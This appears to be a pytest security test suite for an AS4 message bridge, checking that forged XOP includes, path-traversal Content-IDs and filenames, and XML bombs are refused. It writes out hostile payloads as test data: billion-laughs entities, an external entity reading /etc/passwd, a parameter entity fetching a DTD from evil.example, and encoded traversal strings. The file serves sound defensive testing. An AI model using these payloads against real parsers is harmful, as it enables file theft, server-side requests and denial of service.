"""Contents that are said to be elsewhere: XOP includes, paths in names, bombs in the envelope."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from lxml import etree

from bridge.envelope import Property
from bridge.errors import RefusedMessage
from bridge.names import DS, EBMS, WSSE, XENC, clark
from bridge.transport.as4.content import SealedSink
from bridge.transport.as4.mime import Package
from bridge.transport.as4.mime_reader import MimeLimits, PackageReader
from tests.as4_attacks import Forgery
from tests.as4_worlds import PDF, REGREP, contents, envelope, octets, part, side, world

Attack = Callable[[Forgery], None]
XOP = "http://www.w3.org/2004/08/xop/include"
ROOT = b"Content-Type: application/soap+xml\r\n\r\n<a/>"
TYPE = 'multipart/related; boundary="b"; type="application/soap+xml"'


def refused(package: Package, code: str) -> None:
    with pytest.raises(RefusedMessage) as fault:
        world().open(package)
    assert fault.value.code == code, fault.value.what


# --- XOP: the text of an element is said to be in a part -----------------------------


def include(parent: etree._Element, href: str) -> None:
    parent.text = None
    etree.SubElement(parent, clark(XOP, "Include"), href=href)


def included(
    namespace: str, name: str, number: int = 0, sign: Callable[[Forgery], None] | None = None
) -> Attack:
    """Put an include of the first part in the place of a text, and sign again where asked to."""

    def attack(forgery: Forgery) -> None:
        if sign is not None and name != "DigestValue":
            sign(forgery)
        include(forgery.one(namespace, name, number), f"cid:{forgery.parts[0].content_id}")
        if sign is not None and name == "DigestValue":
            forgery.sign_only()

    return attack


def included_in_the_header(forgery: Forgery) -> None:
    include(forgery.one(EBMS, "Property"), f"cid:{forgery.parts[0].content_id}")
    forgery.resign()


def included_in_the_body(forgery: Forgery) -> None:
    include(forgery.body, f"cid:{forgery.parts[0].content_id}")
    forgery.resign()


def included_part(forgery: Forgery) -> None:
    """A part of an attacker that nothing but an include in an unsigned header refers to."""
    forgery.parts.append(part("evil@bridge.example", b"evil"))
    include(etree.SubElement(forgery.header, "x"), "cid:evil@bridge.example")


INCLUDES = {
    "in a property of the header": (included_in_the_header, "EBMS:0009"),
    "in the body": (included_in_the_body, "EBMS:0003"),
    "in the SignatureValue": (included(DS, "SignatureValue"), "EBMS:0103"),
    "in a DigestValue": (included(DS, "DigestValue", 2, Forgery.sign_only), "EBMS:0103"),
    "in the token of the signature": (included(WSSE, "BinarySecurityToken", 1), "EBMS:0103"),
    "in the token of the key": (included(WSSE, "BinarySecurityToken", 0), "EBMS:0103"),
    "in the wrapped key": (included(XENC, "CipherValue"), "EBMS:0103"),
    "of a part that nobody signed": (included_part, "EBMS:0011"),
}


@pytest.mark.parametrize(("attack", "code"), INCLUDES.values(), ids=INCLUDES)
def test_an_include_is_never_followed(attack: Attack, code: str) -> None:
    forgery = Forgery(world().pack().package)
    attack(forgery)
    refused(forgery.done(), code)


def test_an_include_beside_what_is_signed_brings_nothing_in() -> None:
    forgery = Forgery(world().pack().package)
    include(etree.SubElement(forgery.header, "x"), "file:///etc/passwd")
    assert contents(world().open(forgery.done())) == [REGREP, PDF]


ROOTS = {
    "a root part of XOP": (TYPE, b"Content-Type: application/xop+xml\r\n\r\n<a/>"),
    "a package of XOP": (TYPE.replace("soap+xml", "xop+xml"), ROOT),
}


@pytest.mark.parametrize(("content_type", "root"), ROOTS.values(), ids=ROOTS)
def test_a_package_in_the_form_of_xop_is_refused(content_type: str, root: bytes) -> None:
    with pytest.raises(RefusedMessage) as fault:
        read(root, content_type=content_type)
    assert fault.value.code == "EBMS:0007"


# --- names that are paths -----------------------------------------------------------


def read(
    *parts: bytes, folder: Path | None = None, content_type: str = TYPE
) -> tuple[Package, list[str]]:
    """Read a package with sinks that leave memory at once; give it and what files have names."""
    body = b"".join(b"\r\n--b\r\n" + each for each in parts) + b"\r\n--b--\r\n"
    reader = PackageReader(
        content_type, lambda: SealedSink(os.urandom, folder, in_memory=0), MimeLimits()
    )
    reader.feed(body)
    package = reader.close()
    return package, [each.name for each in folder.rglob("*")] if folder else []


PATHS = {
    "up": b"<../../etc/passwd@x>",
    "up in the middle": b"<a/../../b@x>",
    "up at the end": b"<a/..>",
    "here": b"<./a@x>",
    "from the root": b"</etc/passwd>",
    "with backslashes": rb"<..\..\boot.ini@x>",
    "up, percent-encoded": b"<%2e%2e%2fpasswd@x>",
    "up, half encoded": b"<..%2Fpasswd@x>",
    "a backslash, encoded": b"<a%5Cb@x>",
    "a zero octet, encoded": b"<a%00.pdf@x>",
    "a line end, encoded": b"<a%0D%0Ab@x>",
}


@pytest.mark.parametrize("content_id", PATHS.values(), ids=PATHS)
def test_a_content_id_that_is_a_path_is_refused(content_id: bytes, tmp_path: Path) -> None:
    with pytest.raises(RefusedMessage) as fault:
        read(ROOT, b"Content-ID: " + content_id + b"\r\n\r\nevil", folder=tmp_path)
    assert fault.value.code == "EBMS:0007"
    assert fault.value.security
    assert list(tmp_path.rglob("*")) == []


@pytest.mark.parametrize("content_id", [b"a/b+c==@x", b"a..b@x", b"~a@x", b"100%@x"])
def test_odd_content_ids_of_peers_are_only_names(content_id: bytes, tmp_path: Path) -> None:
    package, names = read(ROOT, b"Content-ID: <" + content_id + b">\r\n\r\nmine", folder=tmp_path)
    assert package.parts[0].content_id == content_id.decode()
    assert octets(package.parts[0].content) == b"mine"
    assert names == []


def test_file_names_of_a_part_name_no_file(tmp_path: Path) -> None:
    headers = (
        b"Content-ID: <a@b>\r\n"
        b'Content-Disposition: attachment; filename="../../evil.pdf"\r\n'
        b"Content-Location: file:///tmp/evil.pdf\r\n"
        b'Content-Type: application/pdf; name="/etc/passwd"\r\n'
    )
    package, names = read(ROOT, headers + b"\r\nmine", folder=tmp_path)
    assert octets(package.parts[0].content) == b"mine"
    assert names == []


def test_file_names_in_part_properties_stay_text(tmp_path: Path) -> None:
    names = ("FileName", "PayloadName", "OriginalFileName")
    given = tuple(Property(name, f"../../{name}") for name in names)
    first = next(iter(envelope(side("DE"), side("FR"))))
    sent = world().pack(payloads=(replace(first, properties=given),)).package
    found = world().open(sent, sinks=lambda: SealedSink(os.urandom, tmp_path, in_memory=0))
    assert found.envelope.payloads[0].properties == given
    assert octets(found.envelope.payloads[0].content) == REGREP
    assert list(tmp_path.rglob("*")) == []


# --- bombs in the envelope ----------------------------------------------------------


def laughing(soap: bytes) -> bytes:
    names = "abcdefghij"
    entities = "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)
    )
    dtd = f'<!DOCTYPE x [<!ENTITY a "ha">{entities}]>'.encode()
    return dtd + soap.replace(b"PROVIDER-ID", b"&j;")


def beside(octets_: bytes) -> Callable[[bytes], bytes]:
    return lambda soap: soap.replace(b"</S12:Header>", octets_ + b"</S12:Header>")


BOMBS = {
    "entities within entities": laughing,
    "an entity of a file": lambda soap: (
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        + soap.replace(b"PROVIDER-ID", b"&a;")
    ),
    "a parameter entity of the web": lambda soap: (
        b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>' + soap
    ),
    "a document type after a comment": lambda soap: b"<!-- x --><!DOCTYPE x>" + soap,
    "a document type in UTF-16": lambda soap: (
        b"\xff\xfe" + ("<!DOCTYPE x>" + soap.decode()).encode("utf-16-le")
    ),
    "an entity that nobody declared": lambda soap: soap.replace(b"PROVIDER-ID", b"&evil;"),
    "too deep": beside(b"<a>" * 5000 + b"</a>" * 5000),
    "too many elements": beside(b"<a/>" * 12_000),
    "too many attributes": beside(
        b"<a " + b" ".join(b'a%d=""' % number for number in range(500)) + b"/>"
    ),
    "an attribute that is too long": beside(b'<a b="' + b"x" * 10_000 + b'"/>'),
}


@pytest.mark.parametrize("change", BOMBS.values(), ids=BOMBS)
def test_a_bomb_in_the_envelope_is_refused_before_anything_else(
    change: Callable[[bytes], bytes],
) -> None:
    package = world().pack().package
    refused(Package(change(package.soap), package.parts), "EBMS:0009")
